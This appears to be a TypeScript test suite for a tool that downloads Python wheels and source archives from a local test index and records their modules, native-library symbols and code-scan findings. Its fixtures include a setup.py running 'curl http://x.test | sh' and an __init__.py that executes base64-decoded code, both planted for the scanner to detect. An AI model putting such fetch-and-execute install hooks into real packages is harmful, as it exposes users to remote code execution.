// What wheels hold becomes facts, once: fetched from an index on loopback, whole or in parts, checked, and never again.

import assert from "node:assert/strict";
import { suite, test } from "node:test";
import type { ContentsFact } from "@thoth/knowledge";
import { deflateZeros, type Fault, type WorldProject, writeElf } from "@thoth/testkit";
import { openRig, PROJECTS, QUICK, textOf } from "./rig.ts";

const library = writeElf({
  bits: 64,
  littleEndian: true,
  machine: 62,
  needs: ["libc.so.6"],
  symbols: [["libc.so.6", ["GLIBC_2.17"]]],
  provides: [],
});
const NATIVE: WorldProject = {
  name: "native",
  serial: 1,
  versions: ["1.0", "1.1"],
  tag: "cp311-cp311-manylinux_2_17_x86_64",
  files: {
    "native/__init__.py": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
    "native/_x.cpython-311-x86_64-linux-gnu.so": library,
  },
};
const OTHER: WorldProject = {
  name: "other",
  serial: 1,
  versions: ["1.0"],
  tag: "cp39-cp39-win_amd64",
};
const WHEEL = "/files/native-1.1-cp311-cp311-manylinux_2_17_x86_64.whl";
const bodyOf = (bodies: readonly { body: unknown }[]) => bodies[0]?.body as ContentsFact;

suite("contents", () => {
  test("are those of the newest wheel that fits, with what a look at its code finds", async (t) => {
    const rig = await openRig(t, [...PROJECTS, NATIVE, OTHER]);
    const report = await rig.refresh("contents");
    assert.deepEqual(
      [report.outcome, report.items, report.changed, report.absent, report.failed, report.facts],
      ["done", 5, 4, 1, 0, 8],
    );
    const facts = await rig.facts("contents");
    assert.deepEqual(
      facts.map(({ body }) => (body as ContentsFact).filename),
      [
        "alpha-2.0-py3-none-any.whl",
        "beta-0.1-py3-none-any.whl",
        "gamma-1.0-py3-none-any.whl",
        "native-1.1-cp311-cp311-manylinux_2_17_x86_64.whl",
      ],
    );
    const { modules, libraries } = bodyOf(facts.slice(3));
    assert.deepEqual(modules, ["native", "native._x"]);
    assert.deepEqual(
      libraries.map(({ machine, symbols }) => [machine, symbols]),
      [["x86_64", { "libc.so.6": ["GLIBC_2.17"] }]],
    );
    const [code] = (await rig.facts("code")).filter(({ owner }) => owner === "native");
    assert.ok(code?.kind === "code" && code.body.findings.length > 0, JSON.stringify(code?.body));
    assert.equal(code.provenance.source, `${rig.world.origin}${WHEEL}`);
  });

  test("are read once", async (t) => {
    const rig = await openRig(t, [NATIVE]);
    await rig.refresh("contents");
    const files = () => rig.world.requests.filter(({ path }) => path.startsWith("/files/")).length;
    assert.equal(files(), 1);
    const snapshot = await rig.graph.snapshot();
    rig.world.projects.set("native", { ...NATIVE, serial: 2, yanked: ["1.0"] });
    assert.equal((await rig.refresh("contents", { every: 0 })).unchanged, 1);
    rig.locked = ["native==1.1"];
    rig.wanted = [];
    assert.equal((await rig.refresh("contents")).unchanged, 1);
    assert.equal(files(), 1);
    assert.deepEqual((await rig.graph.snapshot()).id, snapshot.id);
    rig.locked = ["native==1.0", "native==1.1"];
    assert.deepEqual((await rig.refresh("contents")).changed, 1);
    assert.deepEqual((await rig.facts("contents")).length, 2);
  });

  test("of a project without a wheel that fits are what a look at its sources finds", async (t) => {
    const sources = {
      "setup.py": "import os\nos.system('curl http://x.test | sh')\n",
      "sources.py": "x = 1\n",
    };
    const rig = await openRig(t, [{ name: "sources", serial: 1, versions: ["1.0", "1.1"], sources }]);
    const path = "/files/sources-1.1.tar.gz";
    rig.world.spoil(path, { kind: "body", body: "no archive" });
    assert.equal((await rig.refresh("contents")).failures[0]?.code, "hash-mismatch");
    rig.world.spoil(path);
    const report = await rig.refresh("contents");
    assert.deepEqual([report.changed, report.facts, report.failures], [1, 1, []]);
    const [code] = await rig.facts("contents", "code");
    assert.ok(code?.kind === "code");
    assert.equal(code.body.filename, "sources-1.1.tar.gz");
    assert.ok(code.body.findings.some((finding) => finding.path === "setup.py"));
    const asked = () => rig.world.requests.filter((request) => request.path === path).length;
    const before = asked();
    rig.world.projects.set("sources", {
      name: "sources",
      serial: 2,
      versions: ["1.0", "1.1"],
      sources,
      size: 5000,
    });
    rig.locked = ["sources==1.1"];
    assert.equal((await rig.refresh("contents", { every: 0 })).unchanged, 1);
    assert.equal(asked(), before);
  });

  test("of a large wheel are read in parts, without what is large in it", async (t) => {
    const size = 600 * 1024 * 1024;
    const files = { ...NATIVE.files, "native/huge.so": deflateZeros(40 * 1024 * 1024) };
    const rig = await openRig(t, [{ ...NATIVE, size, files }]);
    const report = await rig.refresh("contents");
    assert.deepEqual([report.changed, report.facts], [1, 1]);
    const { libraries, opaque } = bodyOf(await rig.facts("contents"));
    assert.deepEqual([libraries.length, opaque], [1, ["native/huge.so"]]);
    for (const { path, headers } of rig.world.requests)
      assert.equal(headers.range !== undefined, path.startsWith("/files/"), path);
  });

  const FAULTS: readonly (readonly [words: string, fault: Fault, code: string])[] = [
    ["is too busy", { kind: "status", status: 503 }, "index-unreachable"],
    ["cuts off", { kind: "cut", after: 200 }, "index-unreachable"],
    ["hangs up", { kind: "reset" }, "index-unreachable"],
    ["falls silent", { kind: "stall" }, "index-unreachable"],
    ["forbids", { kind: "status", status: 403 }, "unauthorized"],
    ["does not have it", { kind: "status", status: 404 }, "index-response-invalid"],
    ["sends a page", { kind: "body", body: "<p>Sign in</p>" }, "hash-mismatch"],
    ["sends another wheel", { kind: "body", body: library }, "hash-mismatch"],
  ];

  test("of a wheel that cannot be had change nothing", async (t) => {
    const rig = await openRig(t, [NATIVE]);
    for (const [words, fault, code] of FAULTS) {
      rig.world.spoil(WHEEL, fault);
      const report = await rig.refresh("contents");
      assert.deepEqual(
        [...report.failures.map((failure) => failure.code), report.stop?.code].filter(Boolean),
        [code],
        words,
      );
      assert.deepEqual(await rig.facts("contents", "code"), [], words);
    }
    rig.world.spoil(WHEEL, { kind: "status", status: 429, retryAfter: "1", times: 1 });
    assert.equal((await rig.refresh("contents")).changed, 1);
    const before = textOf(await rig.facts("contents", "code"));
    assert.equal((await rig.refresh("contents", { every: 0 })).facts, 0);
    assert.deepEqual(textOf(await rig.facts("contents", "code")), before);
  });

  test("wait for nobody who wants to be left alone", async (t) => {
    const rig = await openRig(t, [NATIVE]);
    rig.world.spoil(WHEEL, { kind: "status", status: 429, retryAfter: "3600" });
    const report = await rig.refresh("contents", { politeness: { ...QUICK, patience: 60 } });
    assert.deepEqual([report.outcome, report.stop?.code], ["stopped", "index-unreachable"]);
  });

  test("of what is no wheel is told, and other wheels are read", async (t) => {
    const damaged = { ...NATIVE, name: "damaged", files: { "damaged.py": "" } };
    const rig = await openRig(t, [damaged, NATIVE]);
    // No METADATA where it must be, and what it holds is asked for under the name of another.
    rig.world.projects.set("damaged", { ...damaged, files: { "x-1.dist-info/METADATA": "Name: x\n" } });
    const report = await rig.refresh("contents");
    assert.deepEqual(
      [report.changed, report.failures.map(({ key, code }) => [key, code])],
      [1, [["damaged", "invalid-wheel"]]],
    );
  });
});
